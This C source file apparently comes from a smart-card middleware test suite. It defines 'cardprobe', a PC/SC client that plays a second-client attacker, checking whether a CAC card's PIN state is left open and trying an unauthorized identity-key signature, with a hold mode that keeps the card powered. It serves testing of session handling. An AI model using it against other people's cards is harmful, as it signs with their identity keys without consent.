/*
 * cardprobe: a second PC/SC client, the attacker of issue 11 section 1. With
 * no PIN it asks the card whether its PIN is verified now, then tries one
 * private-key operation with the identity key: if the card signs, whoever
 * used it last left its security state open.
 *
 * usage: cardprobe [--verify PIN] [--hold] [--bits N] [READER_SUBSTRING]
 *        cardprobe --reset [READER_SUBSTRING]
 *
 * Prints one line, "verify=SW sign=SW" ("pin=SW verify=SW sign=SW" with
 * --verify, "reset=ok" with --reset). Exit: 0 the card signed, 1 it refused,
 * 2 a PC/SC error or a card that cannot be probed (message on stderr).
 *
 * What it sends, in one transaction: SELECT the identity PKI applet, VERIFY
 * with no data (asks, changes nothing), CAC SIGN/DECRYPT of one PKCS#1 type 1
 * block of the key's size. It leaves the card as it found it (SCARD_LEAVE_CARD,
 * never a reset) but for the applet selected, so probing does not change what
 * it measures. --reset only connects and disconnects with SCARD_RESET_CARD, as
 * a middleware ending a session would.
 *
 * pcscd powers a card down about half a second after its last client
 * disconnects, and the card forgets its PIN then. An attacker does not wait
 * for that: --hold connects, prints "held", and probes only when its standard
 * input ends, keeping the card powered in between; its line then ends with
 * "reset_seen=0|1" (whether someone reset the card while it waited).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <winscard.h>

#define EXIT_SIGNED 0
#define EXIT_REFUSED 1
#define EXIT_ERROR 2

#define SW_OK 0x9000u
#define MAX_KEY_BYTES 512 /* RSA-4096 */
#define CHUNK 128         /* bytes of the block per SIGN/DECRYPT APDU */

/* The CAC PKI applet of the first certificate, the identity one (libcacard
 * numbers its PKI applets A0 00 00 00 79 01 0N in the card's certificate order). */
static const unsigned char select_id_applet[] = {0x00, 0xA4, 0x04, 0x00, 0x07, 0xA0,
                                                 0x00, 0x00, 0x00, 0x79, 0x01, 0x00};

/* The global PIN's reference, the one OpenSC's CAC driver verifies. */
#define PIN_REF 0x00

struct probe {
    SCARDCONTEXT ctx;
    SCARDHANDLE card;
    const SCARD_IO_REQUEST *pci;
    int have_ctx, have_card, in_transaction;
};

/* Says what went wrong with a PC/SC call. */
static void pcsc_error(const char *what, LONG rv)
{
    fprintf(stderr, "cardprobe: %s: %s (0x%08lX)\n", what, pcsc_stringify_error(rv),
            (unsigned long)rv);
}

/* Sends one APDU, puts up to *rlen response bytes in rsp, returns the status
 * word, or 0 on a PC/SC error (already reported). */
static unsigned transmit(struct probe *p, const unsigned char *apdu, size_t len,
                         unsigned char *rsp, DWORD *rlen)
{
    LONG rv = SCardTransmit(p->card, p->pci, apdu, (DWORD)len, NULL, rsp, rlen);

    if (rv != SCARD_S_SUCCESS) {
        pcsc_error("SCardTransmit", rv);
        return 0;
    }
    if (*rlen < 2) {
        fprintf(stderr, "cardprobe: a response without a status word\n");
        return 0;
    }
    return (unsigned)rsp[*rlen - 2] << 8 | rsp[*rlen - 1];
}

/* Sends one APDU and fetches what the card keeps back (61xx) with GET RESPONSE,
 * so the card is left with nothing pending; returns the final status word. */
static unsigned command(struct probe *p, const unsigned char *apdu, size_t len)
{
    unsigned char rsp[MAX_KEY_BYTES + 2];
    DWORD rlen = sizeof rsp;
    unsigned sw = transmit(p, apdu, len, rsp, &rlen);

    for (int rounds = 0; rounds < 16 && (sw & 0xFF00u) == 0x6100u; rounds++) {
        unsigned char get_response[5] = {0x00, 0xC0, 0x00, 0x00, (unsigned char)sw};

        rlen = sizeof rsp;
        sw = transmit(p, get_response, sizeof get_response, rsp, &rlen);
    }
    return sw;
}

/* Picks the first reader whose name contains want, or with want NULL the
 * first reader with a card in it; 0 when found. */
static int choose_reader(struct probe *p, const char *want, char *reader, size_t size)
{
    char list[8192];
    DWORD len = sizeof list;
    LONG rv = SCardListReaders(p->ctx, NULL, list, &len);

    if (rv != SCARD_S_SUCCESS) {
        pcsc_error("SCardListReaders", rv);
        return -1;
    }
    for (const char *r = list; *r && r < list + len; r += strlen(r) + 1) {
        SCARD_READERSTATE rs = {.szReader = r, .dwCurrentState = SCARD_STATE_UNAWARE};

        if (want) {
            if (!strstr(r, want))
                continue;
        } else {
            rv = SCardGetStatusChange(p->ctx, 0, &rs, 1);
            if (rv != SCARD_S_SUCCESS || !(rs.dwEventState & SCARD_STATE_PRESENT))
                continue;
        }
        if ((size_t)snprintf(reader, size, "%s", r) >= size)
            continue;
        return 0;
    }
    fprintf(stderr, "cardprobe: no reader %s%s%s\n", want ? "matching '" : "with a card",
            want ? want : "", want ? "'" : "");
    return -1;
}

/* VERIFY with the PIN padded with FF to 8 bytes; returns the status word. */
static unsigned verify_pin(struct probe *p, const char *pin)
{
    unsigned char apdu[13] = {0x00, 0x20, 0x00, PIN_REF, 0x08};
    size_t n = strlen(pin);
    unsigned sw;

    memset(apdu + 5, 0xFF, 8);
    for (size_t i = 0; i < n; i++)
        apdu[5 + i] = (unsigned char)pin[i];
    sw = command(p, apdu, sizeof apdu);
    memset(apdu, 0, sizeof apdu);
    return sw;
}

/* One CAC SIGN/DECRYPT of a PKCS#1 type 1 block of key_bytes, in chunks
 * (P1 0x80: more to come, 0x00: the last); returns the first status word that
 * is not success, or the last one. */
static unsigned sign_block(struct probe *p, size_t key_bytes)
{
    static const char payload[] = "cacreg cardprobe";
    unsigned char block[MAX_KEY_BYTES];
    unsigned char apdu[5 + CHUNK + 1];
    size_t plen = sizeof payload - 1, off = 0;
    unsigned sw = 0;

    block[0] = 0x00;
    block[1] = 0x01;
    memset(block + 2, 0xFF, key_bytes - plen - 3);
    block[key_bytes - plen - 1] = 0x00;
    memcpy(block + key_bytes - plen, payload, plen);
    while (off < key_bytes) {
        size_t n = key_bytes - off > CHUNK ? CHUNK : key_bytes - off;
        int last = off + n == key_bytes;
        size_t len = 5 + n;

        apdu[0] = 0x80;
        apdu[1] = 0x42;
        apdu[2] = last ? 0x00 : 0x80;
        apdu[3] = 0x00;
        apdu[4] = (unsigned char)n;
        memcpy(apdu + 5, block + off, n);
        if (last)
            apdu[len++] = 0x00; /* Le: the whole result */
        sw = command(p, apdu, len);
        if (sw != SW_OK)
            break;
        off += n;
    }
    return sw;
}

/* Ends the transaction and the connection without touching the card's state. */
static void release(struct probe *p)
{
    if (p->in_transaction)
        SCardEndTransaction(p->card, SCARD_LEAVE_CARD);
    if (p->have_card)
        SCardDisconnect(p->card, SCARD_LEAVE_CARD);
    if (p->have_ctx)
        SCardReleaseContext(p->ctx);
}

static int usage(void)
{
    fprintf(stderr, "usage: cardprobe [--verify PIN] [--hold] [--bits N] [READER_SUBSTRING]\n"
                    "       cardprobe --reset [READER_SUBSTRING]\n");
    return EXIT_ERROR;
}

/* Waits, holding the connection, until standard input ends. */
static void hold_until_eof(void)
{
    char buf[256];

    printf("held\n");
    fflush(stdout);
    while (fread(buf, 1, sizeof buf, stdin) > 0)
        ;
}

/* Starts our transaction; a card reset by someone else since we connected is
 * reconnected to (leaving it as it is) and noted in *reset_seen. */
static LONG begin(struct probe *p, int *reset_seen)
{
    LONG rv = SCardBeginTransaction(p->card);
    DWORD proto;

    if (rv == SCARD_W_RESET_CARD) {
        *reset_seen = 1;
        rv = SCardReconnect(p->card, SCARD_SHARE_SHARED, SCARD_PROTOCOL_T0 | SCARD_PROTOCOL_T1,
                            SCARD_LEAVE_CARD, &proto);
        if (rv != SCARD_S_SUCCESS)
            return rv;
        p->pci = proto == SCARD_PROTOCOL_T0 ? SCARD_PCI_T0 : SCARD_PCI_T1;
        rv = SCardBeginTransaction(p->card);
    }
    if (rv == SCARD_S_SUCCESS)
        p->in_transaction = 1;
    return rv;
}

int main(int argc, char **argv)
{
    static const unsigned char verify_status[] = {0x00, 0x20, 0x00, PIN_REF};
    struct probe p = {0};
    const char *pin = NULL, *want = NULL;
    char reader[4096];
    unsigned pin_sw = 0, verify_sw, sign_sw, sw;
    long bits = 2048;
    int reset = 0, hold = 0, reset_seen = 0, result = EXIT_ERROR;
    DWORD proto;
    LONG rv;

    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--verify") == 0 && i + 1 < argc) {
            pin = argv[++i];
            if (strlen(pin) > 8)
                return usage();
        } else if (strcmp(argv[i], "--bits") == 0 && i + 1 < argc) {
            char *end;

            bits = strtol(argv[++i], &end, 10);
            if (*end || bits < 512 || bits > (long)MAX_KEY_BYTES * 8 || bits % 8)
                return usage();
        } else if (strcmp(argv[i], "--reset") == 0) {
            reset = 1;
        } else if (strcmp(argv[i], "--hold") == 0) {
            hold = 1;
        } else if (argv[i][0] == '-' || want) {
            return usage();
        } else {
            want = argv[i];
        }
    }
    if (reset && (pin || hold))
        return usage();

    rv = SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &p.ctx);
    if (rv != SCARD_S_SUCCESS) {
        pcsc_error("SCardEstablishContext", rv);
        goto out;
    }
    p.have_ctx = 1;
    if (choose_reader(&p, want, reader, sizeof reader) < 0)
        goto out;
    rv = SCardConnect(p.ctx, reader, SCARD_SHARE_SHARED, SCARD_PROTOCOL_T0 | SCARD_PROTOCOL_T1,
                      &p.card, &proto);
    if (rv != SCARD_S_SUCCESS) {
        pcsc_error("SCardConnect", rv);
        goto out;
    }
    if (reset) {
        rv = SCardDisconnect(p.card, SCARD_RESET_CARD);
        if (rv != SCARD_S_SUCCESS) {
            pcsc_error("SCardDisconnect(SCARD_RESET_CARD)", rv);
            p.have_card = 1; /* still connected: leave it as it is */
            goto out;
        }
        printf("reset=ok\n");
        result = 0;
        goto out;
    }
    p.have_card = 1;
    p.pci = proto == SCARD_PROTOCOL_T0 ? SCARD_PCI_T0 : SCARD_PCI_T1;
    if (hold)
        hold_until_eof();

    /* One transaction: our APDUs are not interleaved with another client's. */
    rv = begin(&p, &reset_seen);
    if (rv != SCARD_S_SUCCESS) {
        pcsc_error("SCardBeginTransaction", rv);
        goto out;
    }
    sw = command(&p, select_id_applet, sizeof select_id_applet);
    if (sw != SW_OK) {
        if (sw)
            fprintf(stderr, "cardprobe: SELECT of the identity PKI applet: %04X\n", sw);
        goto out;
    }
    if (pin) {
        pin_sw = verify_pin(&p, pin);
        if (!pin_sw)
            goto out;
    }
    verify_sw = command(&p, verify_status, sizeof verify_status);
    if (!verify_sw)
        goto out;
    sign_sw = sign_block(&p, (size_t)bits / 8);
    if (!sign_sw)
        goto out;
    if (pin)
        printf("pin=%04X ", pin_sw);
    printf("verify=%04X sign=%04X", verify_sw, sign_sw);
    if (hold)
        printf(" reset_seen=%d", reset_seen);
    printf("\n");
    result = sign_sw == SW_OK ? EXIT_SIGNED : EXIT_REFUSED;
out:
    release(&p);
    return result;
}
